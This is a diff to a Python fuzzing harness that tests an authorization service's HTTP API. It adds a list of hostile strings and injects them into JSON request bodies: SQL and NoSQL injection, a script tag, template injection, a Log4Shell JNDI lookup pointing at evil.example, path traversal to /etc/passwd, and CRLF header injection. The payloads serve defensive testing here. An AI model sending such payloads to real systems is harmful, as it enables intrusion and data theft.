@@ -14,8 +14,10 @@ certificates revoked, days off declared — never touches another test's data.
 """
 from __future__ import annotations
 
+import copy
 import hashlib
 import random
+import re
 import time
 from collections import Counter, defaultdict
 from dataclasses import dataclass, field
@@ -23,7 +25,7 @@ from typing import Any
 
 import requests
 
-from .oracle import Finding, Oracle
+from .oracle import NO_ANSWER, Finding, Oracle
 
 # One token per role the policy knows, all of unit 1012345 or office KV1 (where the real
 # identifiers below live), plus a leader of the office tree's root-most demo office.
@@ -38,6 +40,15 @@ ROLES = {
     "portal": "cong.dvcqg",
 }
 ANONYMOUS, AS_GENERATED = "anonymous", "as_generated"
+# What generators from a schema rarely produce, put in place of one string of a generated body:
+# text JSON can escape but UTF-8 cannot carry (half the draws: it breaks whatever echoes it),
+# injections, look-alikes, control characters, a long string.
+UNENCODABLE = ["\ud800", "Cty \udfff", "\ud83d.pdf"]
+HOSTILE_TEXT = [
+    "' OR '1'='1' --", '{"$ne": null}', "<script>alert(1)</script>",
+    "%s%n%x{0.__class__}${7*7}{{7*7}}", "${jndi:ldap://evil.example/a}", "a\x00b", "\u202e\u200b",
+    "../../../../etc/passwd", "C:\\Windows\\win.ini", "\r\nX-Injected: 1", "ǅ" * 5000,
+]
 
 
 @dataclass
@@ -125,6 +136,38 @@ def _shown(kwargs: dict) -> str:
             f"headers={headers} body={body!r:.400}")
 
 
+def _strings(body: Any) -> list[tuple[Any, Any]]:
+    """(container, key) of every string value of a JSON document, in a stable order."""
+    slots: list[tuple[Any, Any]] = []
+    stack = [body]
+    while stack:
+        node = stack.pop()
+        items = node.items() if isinstance(node, dict) else \
+            enumerate(node) if isinstance(node, list) else ()
+        for key, value in items:
+            if isinstance(value, str):
+                slots.append((node, key))
+            else:
+                stack.append(value)
+    return slots
+
+
+def _request(session: requests.Session, **kwargs: Any) -> tuple[int, str]:
+    try:
+        answer = session.request(**kwargs, timeout=60, allow_redirects=False)
+    except requests.RequestException as exc:   # the server hung up: a finding too
+        return NO_ANSWER, f"no answer: {type(exc).__name__}"
+    return answer.status_code, answer.text
+
+
+def _replace_a_string(body: Any, text: str, pick: int) -> None:
+    """Put `text` in place of the pick-th string value of a JSON body (modulo their number)."""
+    slots = _strings(body)
+    if slots:
+        node, key = slots[pick % len(slots)]
+        node[key] = text
+
+
 def fuzz(base: str, tokens: dict[str, str], real: dict[str, str], *, examples: int, seed: int,
          only: str | None = None, log=print) -> tuple[dict[str, Tally], set[str]]:
     """Run `examples` positive and `examples` negative cases of every operation. Returns the
@@ -143,19 +186,17 @@ def fuzz(base: str, tokens: dict[str, str], real: dict[str, str], *, examples: i
     tallies: dict[str, Tally] = {}
     bodies: dict[str, str] = {}
 
-    def send(op, tally: Tally, case, role: str) -> None:
+    def send(op, tally: Tally, case, role: str, hostile: tuple[str, int] | None) -> None:
         headers = {k: v for k, v in (case.headers or {}).items()
                    if role == AS_GENERATED or k.lower() != "authorization"}
         if role in ROLES:
             headers["Authorization"] = f"Bearer {tokens[role]}"
         case.headers = headers
         kwargs = case.as_transport_kwargs(base_url=base)
-        try:
-            answer = session.request(**kwargs, timeout=60, allow_redirects=False)
-        except requests.RequestException as exc:   # the server hung up: a finding too
-            status, text = 599, f"no answer: {type(exc).__name__}"
-        else:
-            status, text = answer.status_code, answer.text
+        if hostile is not None and "json" in kwargs:
+            kwargs["json"] = copy.deepcopy(kwargs["json"])
+            _replace_a_string(kwargs["json"], *hostile)
+        status, text = _request(session, **kwargs)
         tally.cases += 1
         tally.by_class[f"{min(status // 100, 5)}xx"] += 1
         bodies.setdefault(hashlib.sha256(text.encode()).hexdigest(), text)
@@ -168,13 +209,16 @@ def fuzz(base: str, tokens: dict[str, str], real: dict[str, str], *, examples: i
             tally.findings += [Finding(op.label, f"{p} [as {role}]", status, shown, text)
                                for p in problems]
 
+    text = st.sampled_from(UNENCODABLE) | st.sampled_from(HOSTILE_TEXT)
+    hostile = st.tuples(text, st.integers(min_value=0, max_value=999))
+
     def test_of(op, tally: Tally, strategy):
         @with_seed(seed)
         @settings(max_examples=examples, deadline=None, database=None,
                   phases=[Phase.generate], suppress_health_check=list(HealthCheck))
-        @given(case=strategy, role=who)
-        def test(case, role):
-            send(op, tally, case, role)
+        @given(case=strategy, role=who, hostile=st.none() | hostile | hostile)
+        def test(case, role, hostile):
+            send(op, tally, case, role, hostile)
         return test
 
     for result in schema.get_all_operations():
@@ -194,6 +238,64 @@ def fuzz(base: str, tokens: dict[str, str], real: dict[str, str], *, examples: i
                 pass   # nothing to break: an operation without parameters or a body
         log(f"  {op.label}: {tally.cases} cases, {len(tally.findings)} findings")
     return tallies, bodies
+
+
+def _documented_bodies(doc: dict, op: dict) -> list[Any]:
+    """The request body examples the document gives for one operation."""
+    media = op.get("requestBody", {}).get("content", {}).get("application/json", {})
+    schema = media.get("schema", {})
+    while "$ref" in schema:
+        schema = doc["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
+    found = [media["example"]] if "example" in media else []
+    found += [e["value"] for e in media.get("examples", {}).values() if "value" in e]
+    found += [schema["example"]] if "example" in schema else []
+    return found + list(schema.get("examples", []))
+
+
+def sweep(base: str, tokens: dict[str, str], real: dict[str, str], *,
+          only: str | None = None, log=print) -> dict[str, Tally]:
+    """Deterministic, where randomness is thin: each documented request example, sent as the role
+    that gets furthest with it, with each of its strings in turn replaced by hostile text (an
+    unencodable one and the next of HOSTILE_TEXT)."""
+    import json
+    oracle = Oracle()
+    session = requests.Session()
+    tallies: dict[str, Tally] = {}
+    for path, item in oracle.doc["paths"].items():
+        for method, op in item.items():
+            label = f"{method.upper()} {path}"
+            bodies = [] if method == "parameters" else _documented_bodies(oracle.doc, op)
+            if not bodies or (only and only not in label):
+                continue
+            tally = tallies.setdefault(f"{label} (examples)", Tally())
+            url = base + re.sub(r"{(\w+)}", lambda m: real.get(m.group(1), "X1"), path)
+
+            def post(body, role, tally=tally, method=method, url=url, path=path):
+                data = json.dumps(body).encode()
+                headers = {"Content-Type": "application/json",
+                           **({"Authorization": f"Bearer {tokens[role]}"} if role else {})}
+                status, text = _request(session, method=method.upper(), url=url, data=data,
+                                        headers=headers)
+                tally.cases += 1
+                tally.by_class[f"{min(status // 100, 5)}xx"] += 1
+                sent = url + "\n" + data.decode()
+                for problem in oracle.judge(method.upper(), path, status, text, sent):
+                    tally.findings.append(Finding(label, f"{problem} [as {role}]", status,
+                                                  sent[:600], text))
+                return status
+
+            for body in bodies[:1]:
+                roles = [None] if op.get("security") == [] else list(ROLES)
+                role = min(roles, key=lambda r: (post(copy.deepcopy(body), r), roles.index(r)))
+                slots = sum(1 for _ in _strings(body))
+                for i in range(slots):
+                    for text in (UNENCODABLE[i % len(UNENCODABLE)],
+                                 HOSTILE_TEXT[i % len(HOSTILE_TEXT)]):
+                        hostile = copy.deepcopy(body)
+                        _replace_a_string(hostile, text, i)
+                        post(hostile, role)
+            log(f"  {label} (examples): {tally.cases} cases, {len(tally.findings)} findings")
+    return tallies
 
 
 def task_tokens(stack) -> set[str]:
@@ -228,6 +330,7 @@ def run(*, examples: int, seed: int | None = None, only: str | None = None, log=
                 f"seed {seed}")
             tallies, bodies = fuzz(base, tokens, real, examples=examples, seed=seed, only=only,
                                    log=log)
+            tallies.update(sweep(base, tokens, real, only=only, log=log))
             secrets = task_tokens(stack)
     finally:
         recorder.uninstall()
